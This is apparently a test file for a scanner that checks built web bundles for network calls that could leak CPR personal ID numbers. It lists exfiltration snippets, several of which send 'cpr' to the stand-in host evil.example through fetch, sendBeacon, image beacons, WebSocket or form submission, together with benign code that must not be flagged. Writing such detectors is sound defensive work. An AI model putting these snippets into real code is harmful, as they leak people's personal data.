// CPR never leaves the workbook (docs/domain.md §7). The bundle scan's patterns, each proved by a
// snippet that must be caught and by ordinary code that must not be; the scan of the built bundles
// and the page's Content-Security-Policy run in test/deep/bundle.deep.ts, on the production build.
import { networkHits } from "../support/networkScan";

describe("the network patterns", () => {
  it.each([
    ["fetch", 'fetch("https://evil.example/?cpr="+cpr)'],
    ["fetch", "fetch('https://evil.example')"],
    ["fetch", "fetch(`https://evil.example/${cpr}`)"],
    ["fetch", "await fetch(url, { method: 'POST' })"],
    ["fetch", 'window["fetch"]("https://evil.example")'],
    ["fetch", "const f=globalThis.fetch;f(u)"],
    ["XMLHttpRequest", "var x=new XMLHttpRequest;x.open('POST',u)"],
    ["sendBeacon", 'navigator.sendBeacon("https://evil.example", cpr)'],
    ["WebSocket", 'new WebSocket("wss://evil.example")'],
    ["EventSource", 'new EventSource("https://evil.example/stream")'],
    ["new Image", 'new Image().src="https://evil.example/p.gif?d="+cpr'],
    ["new Image", "(new Image).src=u"],
    ["new Image", "var i=new window.Image(1,1)"],
    ["importScripts", 'importScripts("https://evil.example/w.js")'],
    ["window.open", 'window.open("https://evil.example/?"+cpr)'],
    ["window.open", "window['open'](u)"],
    ["window.open", "self.open(u,'_blank')"],
    ["form.submit()", "document.forms[0].submit()"],
    ["form.submit()", "f.submit ()"],
    ["requestSubmit", "form.requestSubmit()"],
    ['createElement("form")', 'var f=document.createElement("form");f.action=u'],
    ['createElement("form")', "document.createElement('FORM')"],
    ["<form>", 'el.innerHTML=\'<form action="https://evil.example" method="post">\''],
    ["<form>", "'<FORM>'"],
  ])("catch %s in %s", (what, snippet) => {
    expect(networkHits(snippet).map((h) => h.what)).toContain(what);
  });

  it.each([
    "prefetchData()",
    "const fetched = rows.length",
    "isFetching=!1",
    "onSubmit:e=>e.preventDefault()",
    "submitted=!0",
    "var Imagery=1; new ImageData(1,1)",
    "dialog.open(true); setOpen(!0)",
    "'<formula>'",
    "createElement('formula')",
  ])("leave ordinary code alone: %s", (snippet) => {
    expect(networkHits(snippet)).toEqual([]);
  });
});
